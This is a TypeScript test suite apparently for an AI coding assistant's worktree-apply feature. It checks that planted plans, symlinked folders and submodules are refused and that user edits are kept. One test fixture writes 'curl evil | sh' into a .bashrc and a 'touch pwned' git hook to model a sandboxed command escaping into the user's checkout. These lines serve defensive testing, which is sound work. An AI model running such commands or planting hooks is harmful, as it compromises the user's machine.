// /worktree apply carries out only what Hermes staged, only inside the checkout, and never over
// the user's own edits:
// - a plan planted where an earlier version staged (the worktree's git folder, which the chat's
//   sandboxed commands can write) is never carried out, whatever it names;
// - an apply interrupted after its commit point and finished later leaves a file the user changed
//   meanwhile as the user left it, and says so; the other files are applied;
// - a checkout with a symlinked folder on the way to a new file refuses the apply before anything
//   changes (the write would land wherever the link points);
// - a submodule in the worktree is refused by name (a repository is no file to write), not half applied.
import assert from "node:assert/strict";
import { existsSync, mkdirSync, readFileSync, realpathSync, symlinkSync, writeFileSync } from "node:fs";
import path from "node:path";
import { test } from "node:test";
import { recordBranchTip } from "../../acp-server/security/worktree-branch-tip";
import { finishInterruptedApply } from "../../acp-server/worktrees/apply-plan";
import { applyWorktree } from "../../acp-server/worktrees/worktree-apply";
import type { SessionWorktree } from "../../acp-server/worktrees/session-worktree";
import { git, pictureOf, writeTree } from "../support/checkpoint-fixtures";
import { makeTempDirSync } from "../support/temp-dirs";

/** A checkout with three files and a worktree whose branch rewrites them and adds one in a new folder. */
function setUp(): { repo: string; worktree: SessionWorktree } {
  const repo = realpathSync(makeTempDirSync("hermes-apply-safety-"));
  git(repo, "init", "-q", "-b", "main");
  writeTree(repo, { "a.txt": "a\n", "b.txt": "b\n", "c.txt": "c\n" });
  git(repo, "add", ".");
  git(repo, "commit", "-q", "-m", "start");
  const base = git(repo, "rev-parse", "HEAD").trim();
  const folder = path.join(makeTempDirSync("hermes-apply-safety-home-"), "wt");
  git(repo, "worktree", "add", "-q", "-b", "hermes/safety", folder, base);
  writeTree(folder, { "a.txt": "a, from the chat\n", "b.txt": "b, from the chat\n", "c.txt": "c, from the chat\n", "gen/new.txt": "new\n" });
  return { repo, worktree: { path: folder, cwd: folder, branch: "hermes/safety", base, repo } };
}

test("a plan planted in the worktree's git folder (where a sandboxed command can write) is never carried out", async () => {
  const { repo, worktree } = setUp();
  const victim = makeTempDirSync("hermes-apply-victim-");
  writeFileSync(path.join(victim, ".bashrc"), "the user's own\n");
  const gitDir = git(worktree.path, "rev-parse", "--absolute-git-dir").trim();
  const planted = path.join(gitDir, "hermes-apply");
  writeTree(planted, { "files/.bashrc": "curl evil | sh\n", "files/.git/hooks/pre-commit": "#!/bin/sh\ntouch pwned\n" });
  // Both shapes earlier versions read: a plan naming another folder as the checkout, and one naming a hook in this one.
  writeFileSync(path.join(planted, "plan.json"), JSON.stringify({ v: 1, repo: victim, write: [".bashrc"], remove: [] }));
  const before = pictureOf(repo, [".git"]);

  assert.equal(await finishInterruptedApply(worktree), undefined, "no apply of Hermes's was pending");
  writeFileSync(path.join(planted, "plan.json"), JSON.stringify({ v: 2, repo, ops: [{ path: ".git/hooks/pre-commit", target: { oid: "0".repeat(40), mode: "100755" } }] }));
  const outcome = await applyWorktree(worktree, "patch", "safety");
  assert.equal(outcome.status, "applied", JSON.stringify(outcome));

  assert.equal(readFileSync(path.join(victim, ".bashrc"), "utf8"), "the user's own\n");
  assert.ok(!existsSync(path.join(repo, ".git/hooks/pre-commit")), "no hook planted in the checkout's repository");
  assert.notDeepEqual(pictureOf(repo, [".git"]), before, "the real apply went through");
  assert.equal(readFileSync(path.join(repo, "gen/new.txt"), "utf8"), "new\n");
});

test("finished after an interruption, an apply keeps a file the user changed meanwhile, names it, and applies the rest", async () => {
  const { repo, worktree } = setUp();
  const interrupted = new Error("the process died here");
  await assert.rejects(
    applyWorktree(worktree, "patch", "safety", undefined, {
      onStep: async (point) => {
        if (point === "moved 1") throw interrupted;
      },
    }),
    interrupted,
  );
  // Between the kill and the next use of the worktree, the user edits a file the apply had not reached yet.
  const untouched = ["a.txt", "b.txt", "c.txt"].filter((file) => !readFileSync(path.join(repo, file), "utf8").includes("from the chat"));
  assert.ok(untouched.length >= 1, "the interruption came before the last file");
  const edited = untouched[untouched.length - 1]!;
  writeFileSync(path.join(repo, edited), "the user's edit, made after the kill\n");

  const finished = await finishInterruptedApply(worktree);
  assert.deepEqual(finished?.kept.map((entry) => entry.file), [edited]);
  assert.match(finished!.kept[0]!.reason, /your version was kept/);
  assert.equal(readFileSync(path.join(repo, edited), "utf8"), "the user's edit, made after the kill\n");
  for (const file of ["a.txt", "b.txt", "c.txt"].filter((name) => name !== edited)) assert.match(readFileSync(path.join(repo, file), "utf8"), /from the chat/, file);
  assert.equal(readFileSync(path.join(repo, "gen/new.txt"), "utf8"), "new\n");
});

test("an edit made while the apply runs is kept and reported by the apply itself", async () => {
  const { repo, worktree } = setUp();
  let edited: string | undefined;
  const outcome = await applyWorktree(worktree, "patch", "safety", undefined, {
    onStep: async (point) => {
      if (point !== "moved 1" || edited) return;
      edited = ["a.txt", "b.txt", "c.txt"].find((file) => !readFileSync(path.join(repo, file), "utf8").includes("from the chat"));
      writeFileSync(path.join(repo, edited!), "typed in the editor meanwhile\n");
    },
  });
  assert.equal(outcome.status, "applied");
  assert.deepEqual(outcome.status === "applied" && outcome.kept.map((entry) => entry.file), [edited]);
  assert.equal(readFileSync(path.join(repo, edited!), "utf8"), "typed in the editor meanwhile\n");
});

test("a symlinked folder in the checkout on the way to a new file: refused before anything changes", async () => {
  const { repo, worktree } = setUp();
  const outside = makeTempDirSync("hermes-apply-outside-");
  mkdirSync(path.join(repo, "elsewhere"));
  symlinkSync(outside, path.join(repo, "gen"));
  const before = pictureOf(repo, [".git"]);
  const outcome = await applyWorktree(worktree, "patch", "safety");
  assert.equal(outcome.status, "refused", JSON.stringify(outcome));
  assert.deepEqual(outcome.status === "refused" && outcome.files, ["gen/new.txt"]);
  assert.match(outcome.status === "refused" ? outcome.reason : "", /gen is a symlink/);
  assert.deepEqual(pictureOf(repo, [".git"]), before, "nothing in the checkout changed");
  assert.ok(!existsSync(path.join(outside, "new.txt")), "nothing written through the link");
  assert.ok(!existsSync(path.join(path.dirname(worktree.path), ".apply-wt")), "no staging left behind");
});

test("a submodule (a repository inside the worktree) is refused by name in every mode; the checkout is left as it was", async () => {
  const { repo, worktree } = setUp();
  await recordBranchTip(worktree.path); // the branch as Hermes made it: a merge is checked for the submodule, not a moved branch
  const sub = path.join(worktree.path, "sub");
  mkdirSync(sub);
  git(sub, "init", "-q", "-b", "main");
  writeFileSync(path.join(sub, "s.txt"), "inside the submodule\n");
  git(sub, "add", ".");
  git(sub, "commit", "-q", "-m", "sub");
  const before = pictureOf(repo, [".git"]);
  const head = git(repo, "rev-parse", "HEAD").trim();
  for (const mode of ["patch", "squash", "merge"] as const) {
    const outcome = await applyWorktree(worktree, mode, "with a submodule");
    assert.equal(outcome.status, "refused", `${mode}: ${JSON.stringify(outcome)}`);
    assert.match(outcome.status === "refused" ? outcome.reason : "", /sub: a git repository inside the worktree \(a submodule\)/, mode);
    assert.deepEqual(outcome.status === "refused" ? outcome.files : [], ["sub"], mode);
    assert.deepEqual(pictureOf(repo, [".git"]), before, `${mode}: the checkout is as it was`);
    assert.equal(git(repo, "rev-parse", "HEAD").trim(), head, `${mode}: its branch did not move`);
  }
});
